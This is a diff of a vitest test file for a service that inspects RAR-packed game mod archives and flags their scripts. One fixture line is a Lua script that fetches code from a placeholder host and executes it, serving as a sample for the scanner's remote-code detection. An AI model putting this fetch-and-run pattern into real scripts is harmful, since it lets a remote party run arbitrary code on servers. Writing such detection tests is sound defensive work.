@@ -1,5 +1,6 @@
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { fileInspectionSchema } from '#contract/inspection.ts'
+import { MAX_RAR_PIECE_BYTES } from '#server/archives/archive-limits.ts'
 import { type ArchiveStore, openArchiveStore } from '#server/archives/archives.fixture.ts'
 import { makeRar4, makeRar5 } from '#tests/make-rar.ts'
 import { makeZip, renameInZip } from '#tests/make-zip.ts'
@@ -147,14 +148,42 @@ describe('is marked:', () => {
     const { inspection } = await store.inspect('mod.zip', await makeZip(parts))
     expect(inspection.marks).toEqual(['nested_archives', 'programs', 'duplicate_names'])
   })
+})
 
-  test('a manifest that RAR has packed: its resource is known, its text is not', async () => {
-    const parts = { 'taxi/fxmanifest.lua': "name 'Taxi'" }
-    const packed = (await store.inspect('mod.rar', makeRar5(parts, { isPacked: true }))).inspection
-    expect(packed.marks).toEqual(['contents_unread'])
-    expect(packed.kinds).toMatchObject([{ kind: '5m-resource', folder: 'taxi', name: null }])
-    const stored = (await store.inspect('mod.rar', makeRar5(parts))).inspection
-    expect(stored.marks).toEqual([])
-    expect(stored.kinds).toMatchObject([{ name: 'Taxi' }])
+describe('what RAR has packed', () => {
+  const RESOURCE = {
+    'readme.txt': 'Read me. '.repeat(2000),
+    'taxi/fxmanifest.lua': "name 'Taxi'\nserver_script 'server.lua'",
+    'taxi/server.lua': "PerformHttpRequest('https://example.org', function(_, t) load(t)() end)",
+    'menyoo/a.xml': '<SpoonerPlacements/>',
+    'menyoo/all bytes.xml': Buffer.from(Array.from({ length: 512 }, (_, index) => index % 256)),
+  }
+  const read = {
+    marks: [],
+    kinds: [{ kind: '5m-resource', folder: 'taxi', name: 'Taxi' }, { kind: 'menyoo-xml' }],
+    scripts: { read: 2, unread: 0, findings: { remote_code: 1, network: 1 } },
+  }
+  const unread = {
+    marks: ['contents_unread'],
+    kinds: [{ kind: '5m-resource', folder: 'taxi', name: null }],
+    scripts: { read: 0, unread: 2, findings: {} },
+  }
+
+  test.each([
+    ['rar4', makeRar4, {}, read],
+    ['rar5', makeRar5, {}, read],
+    ['rar5, solid', makeRar5, { isSolid: true }, read],
+    ['rar4, solid, which is not unpacked', makeRar4, { isSolid: true }, unread],
+    ['rar4, damaged', makeRar4, { isDamaged: true }, unread],
+    ['rar5, damaged', makeRar5, { isDamaged: true }, unread],
+  ] as const)('%s', async (_format, make, options, expected) => {
+    const archive = make(RESOURCE, { isPacked: true, ...options })
+    expect((await store.inspect('mod.rar', archive)).inspection).toMatchObject(expected)
+  })
+
+  test('is not unpacked where the file is too large', async () => {
+    const script = { 'taxi/fxmanifest.lua': Buffer.alloc(MAX_RAR_PIECE_BYTES, 32) }
+    const { inspection } = await store.inspect('mod.rar', makeRar5(script, { isPacked: true }))
+    expect(inspection.marks).toEqual(['contents_unread'])
   })
 })
